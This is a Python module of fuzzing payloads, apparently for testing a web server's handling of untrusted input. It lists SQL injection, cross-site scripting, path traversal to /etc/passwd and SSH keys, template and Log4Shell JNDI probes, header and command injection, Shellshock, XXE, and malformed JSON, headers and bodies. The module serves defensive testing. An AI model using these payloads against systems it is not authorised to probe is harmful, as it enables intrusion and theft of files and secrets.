"""Known payloads, by what they are meant to do to a server that takes its readers' words for its own."""

MARK = "zqxv"
"""Stands in every payload that would be markup, and nowhere in the tool: where it is, the payload is."""

SQL = (
    "' OR '1'='1", "1; DROP TABLE cell--", "' UNION SELECT name, sql FROM sqlite_master--", "1' AND SLEEP(5)#",
    "'; SELECT pg_sleep(5)--", "1 OR 1=1", "\" OR \"\"=\"", "') OR ('a'='a", "0x31303235343830303536",
    "1/**/UNION/**/ALL/**/SELECT/**/NULL", "'||(SELECT 1)||'", "%27%20OR%201=1", "london'--",
    "recall' AND randomblob(1e9)--",
)  # fmt: skip
MARKUP = tuple(
    one.replace("!", MARK)
    for one in (
    "<script>alert('!')</script>", "<img src=x onerror=alert('!')>", "\"><svg onload=alert('!')>",
    "</title><script>!</script>",
        "javascript:alert('!')", "<iframe srcdoc='<b>!</b>'>", "'-alert(`!`)-'", "</script><b>!</b>", "<!--!--><b>",
    "<a href='java&#115;cript:alert(`!`)'>!</a>", "<math><mi xlink:href='data:x,<script>!</script>'>",
    "&lt;script&gt;!",
    "<body onpageshow=alert(1) !>", "\u003cscript\u003e!\u003c/script\u003e", "<style>@import '!';</style>",
    "${alert(`!`)}<!>",
        "<plaintext !>", "<x onclick=alert(1) !>", "\\x3cscript\\x3e!", "data:text/html,<script>!</script>",
    )
)  # fmt: skip
PATHS = (
    "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "..\\..\\..\\windows\\win.ini", "/etc/passwd%00.csv",
    "....//....//etc/passwd",
    "file:///etc/passwd", "%2e%2e/%2e%2e/app/settings.py", "..%c0%af..%c0%afetc/passwd", "/proc/self/environ",
    "c%3a%5cboot.ini",
    "//there.example/share", "~root/.ssh/id_rsa", ".git/config", "staging.duckdb", "releases.json",
    "release-0001.sqlite",
)  # fmt: skip
TEMPLATES = (
    "{{7*7}}", "{{config}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{0.__class__}",
    "%(asctime)s", "%s%s%s%n", "{group}", "${jndi:ldap://there.example/a}", "__class__", "constructor", "__proto__",
    "[object Object]",
)  # fmt: skip
LINES = (
    "x\r\nSet-Cookie: a=b", "x%0d%0aLocation:%20https://there.example", "x\nx: y", "\r\n\r\n<html>", "x\u2028y",
    "x\u0085y", "\x0b\x0c",
    "x\r\n\r\nHTTP/1.1 200 OK\r\n",
)  # fmt: skip
COMMANDS = (
    "; ls -la",
    "| cat /etc/passwd",
    "`id`",
    "$(id)",
    "& ping -c 1 127.0.0.1 &",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
UNICODE = (
    "\u202e\u2066", "\ufeff", "\ufffe\uffff", "a\u0301" * 400, "\u0130\u0131\u017f",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 50,
    "\ud800", "\udfff\ud800", "\u2100\u2101", "\u00a0\u2003", "\u0660\u0661\u0662", "\ufdfd" * 100,
    "\uff1cscript\uff1e", "l\u043endon",
)  # fmt: skip
NUMBERS = (
    "0", "-1", "1e308", "1e999", "NaN", "Infinity", "-0", "9" * 400, "0x7fffffff", "2147483648",
    "18446744073709551616", "1_000", "01",
    "1.7976931348623157e+309", "2026-13-45", "0000-00-00", "9999999-00", "2025-26-q9",
)  # fmt: skip
NOTHING = (
    "",
    " ",
    "null",
    "None",
    "undefined",
    "\x00",
    "%00",
    "london\x00",
    "[]",
    "{}",
    "true",
    "()",
    "''",
    ",,,,",
    "none,none",
)
LONG = (
    "A" * 3_900,
    "," * 3_000,
    "region=london&" * 250,
    "(" * 2_000,
    "%" * 2_000,
    "\\" * 1_500,
    "a." * 1_900,
    "[" * 3_000,
)

ALL = SQL + MARKUP + PATHS + TEMPLATES + LINES + COMMANDS + UNICODE + NUMBERS + NOTHING + LONG

JSON = (
    None, True, 0, -1, 1e308, [], {}, [[]], [None] * 1000, {"a": {"a": {"a": {}}}}, "", {"$gt": ""},
    {"__proto__": {"x": 1}},
    {"constructor": {"prototype": {}}}, [{"id": "page"}],
    {"namespace": "dash_html_components", "type": "Script", "props": {}},
    {"toString": 1}, 10**30,
)  # fmt: skip
"""What JSON can hold in place of a text."""
BODIES = (
    b"", b"null", b"[" * 30_000, b"{" * 30_000, b'{"a":' * 10_000, b"\xff\xfe\x00", b"\x00" * 1000,
    b'{"output":"page.children"', b"1e99999",
    b'{"a":1,"a":2}', b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    b"a=b&c=d", b"-" * 60_000,
    b'"\\ud800"', b"\xef\xbb\xbf{}", b'{"output":"page.children","inputs":' + b"9" * 50_000 + b"}",
)  # fmt: skip
HEADERS = (
    ("Accept-Encoding", "gzip;q=9, *;q=x, br;q=-1"), ("Accept", "*/*;q=" + "9" * 200),
    ("Cookie", "a=" + "b" * 3000), ("Range", "bytes=0-,5-1,-1"),
    ("If-None-Match", '"' + "x" * 500), ("If-Modified-Since", "Thu, 99 Foo 9999"), ("Content-Length", "0"),
    ("Content-Encoding", "gzip"),
    ("X-HTTP-Method-Override", "DELETE"), ("X-Forwarded-For", "127.0.0.1, ::1"),
    ("X-Forwarded-Host", "there.example"), ("Host", "there.example"),
    ("Authorization", "Basic ////"), ("Content-Type", "application/json; charset=utf-7"),
    ("User-Agent", "() { :;}; echo x"),
    ("Transfer-Encoding", "chunked"), ("Expect", "100-continue"), ("Upgrade", "websocket"),
    ("Referer", "javascript:alert(1)"),
)  # fmt: skip
METHODS = ("GET", "GET", "GET", "POST", "HEAD", "OPTIONS", "PUT", "DELETE", "PATCH", "TRACE", "PROPFIND", "G\u00c9T")
